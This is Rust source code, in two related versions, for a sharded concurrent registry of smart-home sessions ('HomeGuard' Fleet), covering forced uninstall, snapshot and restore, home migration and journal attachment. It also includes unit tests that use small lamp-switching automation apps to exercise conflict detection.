    /// ranks dropped, exactly the per-home retraction
    /// [`Fleet::uninstall_app`] performs — and then retired from the
    /// shared store database itself, fingerprints included, so neither a
    /// query nor an ingest cache hit can resurrect it. The sweep never
    /// aborts midway; per-home failures and poisoned shards are reported.
    pub fn force_uninstall(&self, app: &str) -> ForceUninstall {
        let mut out = ForceUninstall {
            app: app.to_string(),
            removed: Vec::new(),
            skipped: 0,
            failed: Vec::new(),
            poisoned_shards: 0,
            store_retired: false,
        };
        // Parallel per-shard fan-out, merged by `HomeId` like
        // [`Fleet::propagate_upgrade`].
        let partials = self.sweep_shards(|id, home| {
            if !home.is_installed(app) {
                return SweepOutcome::Skipped;
            }
            match home.uninstall_app(app) {
                Ok(report) => SweepOutcome::Report(id, Box::new(report)),
                Err(error) => SweepOutcome::Failed(id, error),
            }
        });
        for partial in partials {
            match partial {
                ShardSweep::Poisoned => out.poisoned_shards += 1,
                ShardSweep::Outcomes(outcomes) => {
                    for outcome in outcomes {
                        match outcome {
                            SweepOutcome::Skipped => out.skipped += 1,
                            SweepOutcome::Report(id, report) => out.removed.push((id, *report)),
                            SweepOutcome::Failed(id, error) => out.failed.push((id, error)),
                            SweepOutcome::Clean(_) => unreachable!("uninstall never reports Clean"),
                        }
                    }
                }
            }
        }
        out.removed.sort_by_key(|(id, _)| *id);
        out.failed.sort_by_key(|(id, _)| *id);
        out.store_retired = self.store.retire_app(app);
        out
    }

    /// Captures the whole service — the shared store (database, analyses,
    /// ingest fingerprints), every home's session state, and the
    /// registry's routing parameters — as one consistent
    /// [`FleetSnapshot`]. Serialize it with
    /// [`FleetSnapshot::to_text`] and revive it with [`Fleet::restore`].
    ///
    /// Shards are captured one at a time under their read locks, so
    /// concurrent traffic on other shards proceeds; each home's state is
    /// internally consistent because its shard lock is held while it is
    /// exported.
    ///
    /// # Errors
    ///
    /// [`HgError::Poisoned`] when any shard lock is poisoned: a
    /// quarantined home's state cannot be trusted, and silently snapshotting
    /// around it would persist a fleet that claims to be whole.
    pub fn snapshot(&self) -> Result<FleetSnapshot, HgError> {
        let mut homes = Vec::new();
        for shard in &self.shards {
            let shard = shard.read().map_err(|_| HgError::Poisoned("fleet shard"))?;
            for (&id, home) in shard.iter() {
                homes.push((id, home.export_state()));
            }
        }
        homes.sort_by_key(|(id, _)| *id);
        Ok(FleetSnapshot {
            shards: self.shards.len(),
            next_id: self.next_id.load(Ordering::Relaxed),
            store: self.store.export_state(),
            homes,
        })
    }

    /// Revives a fleet from a snapshot — the warm-restart path. The store
    /// comes back with its ingest cache live, every home is rebuilt from
    /// its ground truth (derived state — detection postings, mediation
    /// points, enforcers — is reconstructed, never deserialized), shard
    /// routing and the id counter are preserved so existing [`HomeId`]
    /// handles stay valid and future ids never collide. The home template
    /// for *future* [`Fleet::create_home`] calls resets to deployment
    /// defaults; use [`Fleet::restore_with`] to customize it.
    ///
    /// # Errors
    ///
    /// [`HgError::Snapshot`] when the snapshot's ids exceed its own
    /// `next_id` counter (a forged or corrupted document).
    pub fn restore(snapshot: FleetSnapshot) -> Result<Fleet, HgError> {
        Fleet::restore_with(snapshot, |builder| builder)
    }

    /// [`Fleet::restore`] with a customized template for homes created
    /// after the restart (the restored homes carry their own state and are
    /// not affected).
    ///
    /// # Errors
    ///
    /// As [`Fleet::restore`].
    pub fn restore_with(
        snapshot: FleetSnapshot,
        customize: impl FnOnce(HomeBuilder) -> HomeBuilder,
    ) -> Result<Fleet, HgError> {
        if let Some((id, _)) = snapshot
            .homes
            .iter()
            .find(|(id, _)| id.raw() >= snapshot.next_id)
        {
            return Err(HgError::Snapshot(format!(
                "{id} is not covered by the snapshot's id counter {}",
                snapshot.next_id
            )));
        }
        let store = Arc::new(RuleStore::restore_state(snapshot.store));
        let fleet = Fleet::builder(store.clone())
            .shards(snapshot.shards)
            .home_defaults(customize)
            .build();
        fleet.next_id.store(snapshot.next_id, Ordering::Relaxed);
        for (id, state) in snapshot.homes {
            let home = Home::restore_state(store.clone(), state);
            fleet
                .shard(id)
                .write()
                .unwrap_or_else(std::sync::PoisonError::into_inner)
                .insert(id, home);
        }
        Ok(fleet)
    }

    /// Exports one home's session state — the migration unit. Serialize it
    /// with [`hg_persist::home_to_text`] and hand it to another process's
    /// [`Fleet::import_home`].
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn export_home(&self, id: HomeId) -> Result<HomeState, HgError> {
        self.with_home(id, |home| home.export_state())
    }

    /// Imports a migrated home under a **fresh** id in this fleet (ids are
    /// process-local routing keys, not global identities). The session is
    /// rebuilt against this fleet's shared store; its installed rules are
    /// self-contained, so the home works even before the store has
    /// ingested the apps it runs.
    pub fn import_home(&self, state: HomeState) -> HomeId {
        self.place(Home::restore_state(self.store.clone(), state))
    }
}

// The whole point of the sharded design: a Fleet handle is freely
// shareable across threads.
const _: () = {
    const fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Fleet>();
};

#[cfg(test)]
mod tests {
    use super::*;
    use hg_detector::ThreatKind;

    const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

    #[test]
    fn create_route_and_remove_homes() {
        let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
        let ids: Vec<HomeId> = (0..10).map(|_| fleet.create_home()).collect();
        assert_eq!(fleet.len(), 10);
        assert_eq!(fleet.home_ids(), ids);
        assert_eq!(fleet.shard_count(), 4);

        fleet.remove_home(ids[3]).unwrap();
        assert_eq!(fleet.len(), 9);
        assert!(matches!(
            fleet.remove_home(ids[3]),
            Err(HgError::UnknownHome(id)) if id == ids[3]
        ));
        assert!(matches!(
            fleet.with_home(ids[3], |_| ()),
            Err(HgError::UnknownHome(_))
        ));
    }

    #[test]
    fn lifecycle_through_the_fleet() {
        let fleet = Fleet::new(RuleStore::shared());
        let id = fleet.create_home();
        let report = fleet.install_app(id, ON_APP, "OnApp", None).unwrap();
        assert!(report.installed);

        let dirty = fleet.install_app(id, OFF_APP, "OffApp", None).unwrap();
        assert!(!dirty.installed);
        assert!(dirty
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        fleet.confirm_install(id, dirty).unwrap();
        assert_eq!(
            fleet.with_home(id, |h| h.installed_rules().len()).unwrap(),
            2
        );

        let removed = fleet.uninstall_app(id, "OffApp").unwrap();
        assert_eq!(removed.retired_threats, 1);
        assert_eq!(
            fleet.with_home(id, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string()]
        );

        let v2 = ON_APP.replace("lamp.on()", "lamp.off()");
        let upgraded = fleet.upgrade_app(id, &v2, "OnApp", None).unwrap();
        assert!(upgraded.installed);
    }

    #[test]
    fn install_many_extracts_once() {
        let fleet = Fleet::new(RuleStore::shared());
        let ids: Vec<HomeId> = (0..5).map(|_| fleet.create_home()).collect();
        let results = fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap();
        assert_eq!(results.len(), 5);
        assert!(results.iter().all(|(_, r)| r.as_ref().unwrap().installed));
        // One real extraction; the other five ingests (bulk pre-ingest +
        // five per-home installs) are cache hits.
        assert_eq!(fleet.store().cache_hits(), 5);

        // A broken source installs nowhere.
        assert!(matches!(
            fleet.install_many(&ids, "def installed() {", "Broken", None),
            Err(HgError::Extract { .. })
        ));
    }

    #[test]
    fn propagate_upgrade_rolls_the_fleet_forward() {
        let fleet = Fleet::new(RuleStore::shared());
        let with_app: Vec<HomeId> = (0..4).map(|_| fleet.create_home()).collect();
        let without_app = fleet.create_home();
        fleet
            .install_many(&with_app, ON_APP, "OnApp", None)
            .unwrap();
        // One home also runs a conflicting app: its upgrade stays pending.
        fleet
            .install_app_forced(with_app[2], OFF_APP, "OffApp", None)
            .unwrap();

        let v2 = ON_APP.replace("lamp.on()", "lamp.on(); lamp.off()");
        let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
        assert_eq!(rollout.app, "OnApp");
        assert_eq!(rollout.skipped, 1);
        let mut upgraded = rollout.upgraded.clone();
        upgraded.sort();
        assert_eq!(upgraded, vec![with_app[0], with_app[1], with_app[3]]);
        assert_eq!(rollout.pending.len(), 1);
        let (dirty_home, ref report) = rollout.pending[0];
        assert_eq!(dirty_home, with_app[2]);
        assert!(!report.installed);

        // The pending home still runs v1; confirming commits v2.
        assert_eq!(
            fleet
                .with_home(dirty_home, |h| h.installed_rules()[0].actions.len())
                .unwrap(),
            1
        );
        fleet
            .confirm_install(dirty_home, rollout.pending.into_iter().next().unwrap().1)
            .unwrap();
        assert_eq!(
            fleet
                .with_home(dirty_home, |h| {
                    h.installed_rules()
                        .iter()
                        .filter(|r| r.id.app == "OnApp")
                        .map(|r| r.actions.len())
                        .sum::<usize>()
                })
                .unwrap(),
            2,
            "v2 has two actions"
        );
        assert_eq!(
            fleet
                .with_home(without_app, |h| h.installed_rules().len())
                .unwrap(),
            0
        );

        // A renaming rollout is refused outright — and refused BEFORE
        // publishing: the rejected name must not appear in the store.
        let renamed = ON_APP.replace("OnApp", "NewApp");
        assert!(matches!(
            fleet.propagate_upgrade(&renamed, "OnApp"),
            Err(HgError::UpgradeRenames { .. })
        ));
        assert!(
            !fleet.store().has_app("NewApp"),
            "a refused rollout must not publish the new app store-wide"
        );
    }

    #[test]
    fn poisoned_shard_reports_typed_errors_and_isolates() {
        let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
        let a = fleet.create_home(); // shard 0
        let b = fleet.create_home(); // shard 1

        // A panicking mutation poisons only home `a`'s shard.
        let doomed = fleet.clone();
        std::thread::spawn(move || {
            let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
        })
        .join()
        .unwrap_err();

        assert!(matches!(
            fleet.with_home(a, |_| ()),
            Err(HgError::Poisoned(_))
        ));
        // The sibling shard keeps serving.
        assert!(
            fleet
                .install_app(b, ON_APP, "OnApp", None)
                .unwrap()
                .installed
        );

        // Registry-level enumeration still sees the quarantined home...
        assert_eq!(fleet.len(), 2);
        assert_eq!(fleet.home_ids(), vec![a, b]);

        // ...a new home is never placed in the poisoned shard (the handle
        // would be unreachable from birth): id 2 would route to shard 0,
        // so it is burned and the home lands on a healthy shard.
        let c = fleet.create_home();
        assert!(
            fleet
                .install_app(c, ON_APP, "OnApp", None)
                .unwrap()
                .installed
        );

        // ...and a rollout sweeps past the poisoned shard instead of
        // aborting, reporting it.
        let v2 = format!("{ON_APP}// v2\n");
        let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
        assert_eq!(rollout.poisoned_shards, 1);
        let mut upgraded = rollout.upgraded.clone();
        upgraded.sort();
        assert_eq!(upgraded, vec![b, c]);
        assert!(rollout.failed.is_empty());
    }

    #[test]
    fn snapshot_restore_round_trips_the_fleet() {
        let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
        let a = fleet.create_home();
        let b = fleet.create_home();
        fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
        let dirty = fleet.install_app(a, OFF_APP, "OffApp", None).unwrap();
        fleet.confirm_install(a, dirty).unwrap();
        fleet.install_app(b, ON_APP, "OnApp", None).unwrap();

        let text = fleet.snapshot().unwrap().to_text();
        let restored = Fleet::restore(FleetSnapshot::from_text(&text).unwrap()).unwrap();

        // Same registry: ids, routing, counts.
        assert_eq!(restored.shard_count(), 4);
        assert_eq!(restored.home_ids(), vec![a, b]);
        assert_eq!(
            restored.with_home(a, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string(), "OffApp".to_string()]
        );
        assert_eq!(
            restored.with_home(a, |h| h.allowed().len()).unwrap(),
            1,
            "confirmed threat decisions survive the restart"
        );
        assert_eq!(
            restored
                .with_home(b, |h| h.installed_rules().len())
                .unwrap(),
            1
        );
        // Warm restart: the store's ingest cache came back, so installing
        // the same app into a new home re-extracts nothing.
        let hits = restored.store().cache_hits();
        let c = restored.create_home();
        assert!(c > b, "the id counter must never reissue a restored id");
        restored.install_app(c, ON_APP, "OnApp", None).unwrap();
        assert_eq!(restored.store().cache_hits(), hits + 1);
    }

    #[test]
    fn snapshot_of_a_poisoned_fleet_is_a_typed_error() {
        let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
        let a = fleet.create_home();
        let doomed = fleet.clone();
        std::thread::spawn(move || {
            let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
        })
        .join()
        .unwrap_err();
        assert!(matches!(fleet.snapshot(), Err(HgError::Poisoned(_))));
    }

    #[test]
    fn restore_rejects_ids_beyond_the_counter() {
        let fleet = Fleet::new(RuleStore::shared());
        let id = fleet.create_home();
        let mut snapshot = fleet.snapshot().unwrap();
        snapshot.next_id = id.raw(); // forged: the counter excludes `id`
        assert!(matches!(
            Fleet::restore(snapshot),
            Err(HgError::Snapshot(_))
        ));
    }

    #[test]
    fn force_uninstall_purges_every_home_and_the_store() {
        let fleet = Fleet::new(RuleStore::shared());
        let ids: Vec<HomeId> = (0..3).map(|_| fleet.create_home()).collect();
        let bystander = fleet.create_home();
        fleet.install_many(&ids, OFF_APP, "OffApp", None).unwrap();
        fleet.install_app(bystander, ON_APP, "OnApp", None).unwrap();

        let outcome = fleet.force_uninstall("OffApp");
        assert_eq!(outcome.app, "OffApp");
        assert_eq!(outcome.removed.len(), 3);
        assert_eq!(outcome.skipped, 1);
        assert!(outcome.failed.is_empty());
        assert!(outcome.store_retired);
        assert!(!fleet.store().has_app("OffApp"));
        for id in &ids {
            assert!(fleet
                .with_home(*id, |h| h.installed_apps().is_empty())
                .unwrap());
        }
        // The bystander keeps its unrelated app, and the store cannot
        // serve the pulled one from any cache.
        assert!(fleet
            .with_home(bystander, |h| h.is_installed("OnApp"))
            .unwrap());
        assert!(matches!(
            fleet.check_install(bystander, "OffApp"),
            Err(HgError::UnknownApp(_))
        ));
        // Idempotent: a second pull finds nothing anywhere.
        let again = fleet.force_uninstall("OffApp");
        assert!(again.removed.is_empty());
        assert!(!again.store_retired);
    }

    #[test]
    fn export_import_migrates_a_home_between_fleets() {
        let fleet = Fleet::new(RuleStore::shared());
        let id = fleet.create_home();
        fleet.install_app(id, ON_APP, "OnApp", None).unwrap();
        let dirty = fleet.install_app(id, OFF_APP, "OffApp", None).unwrap();
        fleet.confirm_install(id, dirty).unwrap();

        // Across "processes": only the serialized text crosses.
        let text = hg_persist::home_to_text(&fleet.export_home(id).unwrap());
        let target = Fleet::new(RuleStore::shared());
        let migrated = target.import_home(hg_persist::home_from_text(&text).unwrap());
        assert_eq!(
            target.with_home(migrated, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string(), "OffApp".to_string()]
        );
        assert_eq!(
            target.with_home(migrated, |h| h.allowed().len()).unwrap(),
            1
        );
        // The migrated session is live: lifecycle ops work even though the
        // target store never ingested the apps.
        target.uninstall_app(migrated, "OffApp").unwrap();
        assert_eq!(
            target.with_home(migrated, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string()]
        );
    }

    #[test]
    fn home_defaults_template_applies() {
        let fleet = Fleet::builder(RuleStore::shared())
            .home_defaults(|b| b.modes(["Day", "Night"]))
            .build();
        let id = fleet.create_home();
        assert_eq!(
            fleet.with_home(id, |h| h.modes().to_vec()).unwrap(),
            vec!["Day".to_string(), "Night".to_string()]
        );
        // Per-home customization overrides the template.
        let custom = fleet.create_home_with(|b| b.modes(["Solo"]));
        assert_eq!(
            fleet.with_home(custom, |h| h.modes().to_vec()).unwrap(),
            vec!["Solo".to_string()]
        );
    }
}
