//! The sharded concurrent home registry.
//!
//! A [`Fleet`] routes every operation through a [`HomeId`] to one of N
//! shards, each a `RwLock<BTreeMap<HomeId, Home>>`. There is deliberately
//! no global lock: two threads driving installs into different shards
//! never contend, and read-side operations (`with_home`, `len`) share
//! each shard's lock. `HomeId`s are dense (`AtomicU64`) and route by
//! `id % shards`, so consecutive creations spread round-robin across the
//! shards — a thread working a contiguous id range touches all of them.
//!
//! # Sweeps and dispatch
//!
//! Fleet-wide operations decompose into **per-shard units** —
//! [`Fleet::install_group`], [`Fleet::upgrade_shard`],
//! [`Fleet::uninstall_shard`] — merged deterministically by
//! [`UpgradeRollout::merge`] / [`ForceUninstall::merge`]. The inherent
//! [`Fleet::propagate_upgrade`] / [`Fleet::force_uninstall`] /
//! [`Fleet::install_many`] walk the shards serially (the in-process,
//! zero-thread path); the canonical *concurrent* dispatch is `hg-api`'s
//! per-shard work-queue executor, which runs the same per-shard units on
//! one dedicated worker per shard and merges through the same helpers —
//! so queue-dispatched sweeps are report-identical to the serial walk by
//! construction. (The previous `std::thread::scope` fan-out special case
//! inside this file is retired in favor of that executor.)

use hg_config::ConfigInfo;
use hg_journal::{journal_err, Admission, Checkpoint, Journal, JournalRecord};
use hg_persist::FleetSnapshot;
use hg_telemetry::{TelemetryBus, TelemetryEvent};
use homeguard_core::{
    HgError, Home, HomeBuilder, HomeId, HomeState, InstallReport, MediationStats, PolicyTable,
    RuleStore, UninstallReport,
};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, OnceLock, RwLock};
use std::time::Instant;

type Shard = RwLock<BTreeMap<HomeId, Home>>;

/// Per-home outcomes of a bulk operation: one entry per requested home, in
/// request order.
pub type BulkOutcomes = Vec<(HomeId, Result<InstallReport, HgError>)>;

/// Builds a [`Fleet`]: shard width and the home template.
pub struct FleetBuilder {
    store: Arc<RuleStore>,
    shards: usize,
    template: HomeBuilder,
}

impl FleetBuilder {
    /// A builder with 16 shards and deployment-default homes.
    pub fn new(store: Arc<RuleStore>) -> FleetBuilder {
        FleetBuilder {
            template: HomeBuilder::new(store.clone()),
            store,
            shards: 16,
        }
    }

    /// Sets the shard count (clamped to at least 1). More shards means
    /// less write contention between homes; the right number is roughly
    /// the expected thread parallelism.
    pub fn shards(mut self, n: usize) -> FleetBuilder {
        self.shards = n.max(1);
        self
    }

    /// Customizes the template every [`Fleet::create_home`] builds from
    /// (modes, unification policy, handling policies, …).
    pub fn home_defaults(
        mut self,
        customize: impl FnOnce(HomeBuilder) -> HomeBuilder,
    ) -> FleetBuilder {
        self.template = customize(self.template);
        self
    }

    /// Builds the fleet.
    pub fn build(self) -> Fleet {
        Fleet {
            store: self.store,
            shards: (0..self.shards)
                .map(|_| RwLock::new(BTreeMap::new()))
                .collect(),
            next_id: AtomicU64::new(0),
            template: self.template,
            telemetry: OnceLock::new(),
            journal: OnceLock::new(),
        }
    }
}

/// The HomeGuard service: a concurrent registry of per-home sessions over
/// one shared rule store. `Send + Sync` throughout — clone an
/// `Arc<Fleet>` into as many threads as you like.
pub struct Fleet {
    store: Arc<RuleStore>,
    shards: Box<[Shard]>,
    next_id: AtomicU64,
    template: HomeBuilder,
    /// Fleet event bus, attached at most once ([`Fleet::attach_telemetry`]).
    /// Unset, every telemetry branch below is a single pointer test.
    telemetry: OnceLock<Arc<TelemetryBus>>,
    /// Write-ahead lifecycle journal, attached at most once
    /// ([`Fleet::attach_journal`]). Unset, every journal branch below is a
    /// single pointer test — a detached journal costs nothing.
    journal: OnceLock<Arc<Journal>>,
}

/// The outcome of a fleet-wide upgrade rollout.
#[derive(Debug)]
pub struct UpgradeRollout {
    /// The app rolled out.
    pub app: String,
    /// Homes where the upgrade was clean and auto-confirmed.
    pub upgraded: Vec<HomeId>,
    /// Homes where the upgrade surfaced interference: the old version is
    /// still running, and the report awaits a per-home
    /// [`Fleet::confirm_install`].
    pub pending: Vec<(HomeId, InstallReport)>,
    /// Homes skipped because the app is not installed there.
    pub skipped: usize,
    /// Per-home upgrade failures (the sweep continues past them).
    pub failed: Vec<(HomeId, HgError)>,
    /// Shards skipped because their lock was poisoned — their homes were
    /// not re-checked and still run the old version.
    pub poisoned_shards: usize,
    /// Shards refused up front because the journal is quarantined under
    /// [`hg_journal::DegradedPolicy::RefuseWrites`] — their homes were not
    /// touched and still run the old version; retry after healing.
    pub refused_shards: usize,
    /// Per-shard journal append failures: the named homes **were**
    /// upgraded but the sweep record never became durable — a recovery
    /// before the next checkpoint replays them on the old version.
    pub journal_lapses: Vec<String>,
}

/// One shard's contribution to a fleet-wide upgrade rollout (the unit a
/// queue executor dispatches to that shard's worker; see
/// [`Fleet::upgrade_shard`]). Field meanings match [`UpgradeRollout`];
/// per-home vectors are in the shard's ascending `HomeId` order.
#[derive(Debug, Default)]
pub struct ShardRollout {
    /// The shard lock was poisoned; its homes were not visited.
    pub poisoned: bool,
    /// The journal is quarantined and the degraded policy refuses writes;
    /// no home in this shard was visited.
    pub refused: bool,
    /// Homes upgraded cleanly in place.
    pub upgraded: Vec<HomeId>,
    /// Homes whose dirty report awaits per-home confirmation.
    pub pending: Vec<(HomeId, InstallReport)>,
    /// Homes in this shard not running the app.
    pub skipped: usize,
    /// Per-home upgrade failures.
    pub failed: Vec<(HomeId, HgError)>,
    /// The sweep record's append failed after the homes were upgraded:
    /// state applied, durability lapsed (the journal has quarantined).
    pub journal_lapsed: Option<String>,
}

/// One shard's contribution to a fleet-wide forced uninstall (see
/// [`Fleet::uninstall_shard`]). Field meanings match [`ForceUninstall`].
#[derive(Debug, Default)]
pub struct ShardUninstall {
    /// The shard lock was poisoned; its homes were not visited.
    pub poisoned: bool,
    /// The journal is quarantined and the degraded policy refuses writes;
    /// no home in this shard was visited.
    pub refused: bool,
    /// Per-home retraction reports, ascending `HomeId` order.
    pub removed: Vec<(HomeId, UninstallReport)>,
    /// Homes in this shard not running the app.
    pub skipped: usize,
    /// Per-home failures.
    pub failed: Vec<(HomeId, HgError)>,
    /// The sweep record's append failed after the homes were retracted:
    /// state applied, durability lapsed (the journal has quarantined).
    pub journal_lapsed: Option<String>,
}

/// The outcome of a fleet-wide forced uninstall (a store-pulled app).
#[derive(Debug)]
pub struct ForceUninstall {
    /// The app removed.
    pub app: String,
    /// Per-home retraction reports for every home that ran the app.
    pub removed: Vec<(HomeId, UninstallReport)>,
    /// Homes that never had the app installed.
    pub skipped: usize,
    /// Per-home failures (the sweep continues past them).
    pub failed: Vec<(HomeId, HgError)>,
    /// Shards skipped because their lock was poisoned — their homes still
    /// run the app.
    pub poisoned_shards: usize,
    /// Shards refused up front by a quarantined journal refusing writes —
    /// their homes still run the app; retry after healing.
    pub refused_shards: usize,
    /// Per-shard journal append failures: the named homes **were**
    /// retracted but the sweep record never became durable.
    pub journal_lapses: Vec<String>,
    /// Whether the store database carried the app (and retired it).
    pub store_retired: bool,
    /// The store-level purge was refused or failed to journal (degraded
    /// service); the app may still be resurrectable from the store.
    pub store_error: Option<String>,
}

impl UpgradeRollout {
    /// Merges per-shard rollout parts into one fleet-wide rollout. The
    /// merge is deterministic regardless of part arrival order: every
    /// per-home vector is sorted by `HomeId`, so a queue-dispatched sweep
    /// whose shards finish in any order reports exactly what the serial
    /// shard walk would.
    pub fn merge(app: impl Into<String>, parts: impl IntoIterator<Item = ShardRollout>) -> Self {
        let mut rollout = UpgradeRollout {
            app: app.into(),
            upgraded: Vec::new(),
            pending: Vec::new(),
            skipped: 0,
            failed: Vec::new(),
            poisoned_shards: 0,
            refused_shards: 0,
            journal_lapses: Vec::new(),
        };
        for part in parts {
            if part.poisoned {
                rollout.poisoned_shards += 1;
                continue;
            }
            if part.refused {
                rollout.refused_shards += 1;
                continue;
            }
            rollout.upgraded.extend(part.upgraded);
            rollout.pending.extend(part.pending);
            rollout.skipped += part.skipped;
            rollout.failed.extend(part.failed);
            rollout.journal_lapses.extend(part.journal_lapsed);
        }
        rollout.upgraded.sort_unstable();
        rollout.pending.sort_by_key(|(id, _)| *id);
        rollout.failed.sort_by_key(|(id, _)| *id);
        rollout
    }
}

impl ForceUninstall {
    /// Merges per-shard uninstall parts (deterministic like
    /// [`UpgradeRollout::merge`]). `store_retired` starts `false`: the
    /// store-level purge happens after the home sweep, and its outcome is
    /// recorded by the caller.
    pub fn merge(app: impl Into<String>, parts: impl IntoIterator<Item = ShardUninstall>) -> Self {
        let mut out = ForceUninstall {
            app: app.into(),
            removed: Vec::new(),
            skipped: 0,
            failed: Vec::new(),
            poisoned_shards: 0,
            refused_shards: 0,
            journal_lapses: Vec::new(),
            store_retired: false,
            store_error: None,
        };
        for part in parts {
            if part.poisoned {
                out.poisoned_shards += 1;
                continue;
            }
            if part.refused {
                out.refused_shards += 1;
                continue;
            }
            out.removed.extend(part.removed);
            out.skipped += part.skipped;
            out.failed.extend(part.failed);
            out.journal_lapses.extend(part.journal_lapsed);
        }
        out.removed.sort_by_key(|(id, _)| *id);
        out.failed.sort_by_key(|(id, _)| *id);
        out
    }
}

impl Fleet {
    /// A fleet with deployment defaults over `store`.
    pub fn new(store: Arc<RuleStore>) -> Fleet {
        Fleet::builder(store).build()
    }

    /// A builder for a customized fleet.
    pub fn builder(store: Arc<RuleStore>) -> FleetBuilder {
        FleetBuilder::new(store)
    }

    /// The shared rule store every home installs from.
    pub fn store(&self) -> &Arc<RuleStore> {
        &self.store
    }

    /// Attaches the fleet event bus: every registered home (and every home
    /// created or imported from now on) publishes lifecycle, detection and
    /// mediation events into it, stamped with its raw [`HomeId`]. At most
    /// one bus per fleet — a second call is ignored and returns `false`.
    ///
    /// Telemetry is a pure observer: reports, sweeps and snapshots are
    /// bit-identical with or without an attached bus (proven in
    /// `tests/telemetry_differential.rs`).
    pub fn attach_telemetry(&self, bus: Arc<TelemetryBus>) -> bool {
        if self.telemetry.set(bus.clone()).is_err() {
            return false;
        }
        if let Some(journal) = self.journal.get() {
            journal.set_telemetry(bus.clone());
        }
        for shard in &self.shards {
            let mut shard = shard
                .write()
                .unwrap_or_else(std::sync::PoisonError::into_inner);
            for (&id, home) in shard.iter_mut() {
                home.set_telemetry(Some(bus.clone()), id.raw());
            }
        }
        true
    }

    /// The attached fleet event bus, if any.
    pub fn telemetry(&self) -> Option<&Arc<TelemetryBus>> {
        self.telemetry.get()
    }

    /// Attaches the write-ahead lifecycle journal: every journaled
    /// mutation from now on appends a [`JournalRecord`] before returning,
    /// making restore = *last checkpoint + replay* ([`Fleet::recover`]).
    /// At most one journal per fleet — a second call is ignored and
    /// returns `Ok(false)`.
    ///
    /// A journal with no stored checkpoint gets a **full baseline
    /// checkpoint** of this fleet's current state, so replay always has a
    /// starting image; a journal that already carries history (the
    /// recovery path) is attached as-is. Attach before serving traffic:
    /// mutations racing the baseline capture are neither journaled nor in
    /// it.
    ///
    /// # Errors
    ///
    /// [`HgError::Poisoned`] when the baseline snapshot hits a poisoned
    /// shard; [`HgError::Journal`] when writing the baseline fails.
    pub fn attach_journal(&self, journal: Arc<Journal>) -> Result<bool, HgError> {
        if self.journal.get().is_some() {
            return Ok(false);
        }
        if let Some(bus) = self.telemetry.get() {
            journal.set_telemetry(bus.clone());
        }
        if journal.checkpoint_count() == 0 {
            let _cut = journal.gate_exclusive();
            let snapshot = self.snapshot()?;
            journal.checkpoint_write(&Checkpoint {
                offset: journal.next_offset(),
                full: true,
                shards: snapshot.shards,
                next_id: snapshot.next_id,
                store: Some(snapshot.store),
                homes: snapshot
                    .homes
                    .into_iter()
                    .map(|(id, state)| (id.raw(), state))
                    .collect(),
                removed: Vec::new(),
            })?;
        }
        Ok(self.journal.set(journal).is_ok())
    }

    /// The attached write-ahead journal, if any.
    pub fn journal(&self) -> Option<&Arc<Journal>> {
        self.journal.get()
    }

    /// The fleet's current id counter (checkpoint export).
    pub(crate) fn next_id_value(&self) -> u64 {
        self.next_id.load(Ordering::Relaxed)
    }

    /// Fleet-wide mediation statistics: the sum of every home's
    /// session-lifetime [`Home::mediation_stats`] aggregate. Poisoned
    /// shards are recovered for the read — counters are observability
    /// state, not ground truth.
    pub fn mediation_stats(&self) -> MediationStats {
        let mut total = MediationStats::default();
        for shard in &self.shards {
            let shard = shard
                .read()
                .unwrap_or_else(std::sync::PoisonError::into_inner);
            for home in shard.values() {
                total.absorb(home.mediation_stats());
            }
        }
        total
    }

    /// Number of shards.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// Number of registered homes. Counts poisoned shards too: a panic
    /// inside a home handler can leave that *home's* state suspect (which
    /// is why `with_home*` report [`HgError::Poisoned`]), but the shard
    /// map itself only mutates in `create_home`/`remove_home` outside any
    /// user code, so registry-level enumeration recovers the guard.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| {
                s.read()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
                    .len()
            })
            .sum()
    }

    /// Whether no home is registered.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Every registered home id, ascending (poisoned shards included — see
    /// [`Fleet::len`]).
    pub fn home_ids(&self) -> Vec<HomeId> {
        let mut ids: Vec<HomeId> = self
            .shards
            .iter()
            .flat_map(|s| {
                s.read()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
                    .keys()
                    .copied()
                    .collect::<Vec<_>>()
            })
            .collect();
        ids.sort();
        ids
    }

    /// The index of the shard `id` routes to — the partition key a
    /// per-shard work-queue dispatcher groups requests by.
    pub fn shard_of(&self, id: HomeId) -> usize {
        (id.raw() % self.shards.len() as u64) as usize
    }

    fn shard(&self, id: HomeId) -> &Shard {
        &self.shards[self.shard_of(id)]
    }

    /// Registers a new home built from the fleet's template and returns
    /// its handle.
    ///
    /// # Errors
    ///
    /// [`HgError::Degraded`] when a quarantined journal refuses writes
    /// (nothing is created); [`HgError::Journal`] when the creation could
    /// not be journaled (the home **is** created, durability lapsed).
    pub fn create_home(&self) -> Result<HomeId, HgError> {
        self.create_home_with(|builder| builder)
    }

